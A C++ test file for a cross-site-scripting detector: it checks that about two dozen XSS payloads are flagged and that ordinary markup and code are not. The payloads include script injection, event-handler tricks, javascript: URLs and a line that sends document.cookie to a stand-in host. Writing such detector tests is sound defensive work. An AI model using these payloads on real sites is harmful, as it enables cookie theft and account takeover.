#include <doctest/doctest.h>

#include "threats/hearing.h"

namespace vmoat {

TEST_CASE("cross-site-scripting: scripts, handlers and script URLs") {
  for (const char* attack : {"<script>alert(1)</script>",
                             "English<script>alert(1)</script>",
                             "\"><script>alert(document.cookie)</script>",
                             "<ScRiPt >prompt(1)</ScRiPt>",
                             "<script src=//a.example/x.js></script>",
                             "<script>var i=new Image;i.src='//a'</script>",
                             "<img src=x onerror=alert(1)>",
                             "<img/src/onerror=alert(1)>",
                             "<svg/onload=alert(1)>",
                             "<svg onload=alert`1`>",
                             "<body onload=alert(1)>",
                             "<iframe src=javascript:alert(1)>",
                             "<a href=\"javascript:alert(1)\">x</a>",
                             "<a href=\"jav\tascript:alert(1)\">x",
                             "<details open ontoggle=alert(1)>",
                             "<input autofocus onfocus=alert(1)>",
                             "\" onmouseover=alert(1) x=\"",
                             "' onfocus='alert(1)' autofocus='",
                             "javascript:alert(document.domain)",
                             "<video><source onerror=\"alert(1)\">",
                             "<object data=\"data:text/html;base64,PHNj\">",
                             "<marquee onstart=alert(1)>",
                             "<script\n>eval(atob('YQ=='))</script>",
                             "<math><mtext></form><img src onerror=alert(1)>",
                             "<x onclick=alert(1)>click",
                             "<script>document.location='//a.example/?'+document.cookie</script>"})
    check_raised("cross-site-scripting", "http", {{true, get_with(attack)}});
}

TEST_CASE("cross-site-scripting: markup, code and comparisons are silent") {
  for (const char* innocent : {"a < b and c > d",
                               "<b>bold</b>",
                               "x<y>z",
                               "I <3 you",
                               "<p class=\"a\">text</p>",
                               "move the <script> tag (in the head) down",
                               "what is <script> for",
                               "<a href=\"https://a.example/\">link</a>",
                               "<img src=\"a.png\" alt=\"on error = none\">",
                               "List<String> items = new List<String>();",
                               "if (a<b) onload = false",
                               "template <class T> void f();",
                               "<-- arrow -->",
                               "\"on sale\" = cheap",
                               "<user@example.org>",
                               "vector<int> v(10);",
                               "javascript: the good parts",
                               "one=\"1\" only=\"2\"",
                               "<onboarding>=1",
                               "\"once=upon a time"})
    check_silent("http", {{true, get_with(innocent)}});
}

}  // namespace vmoat
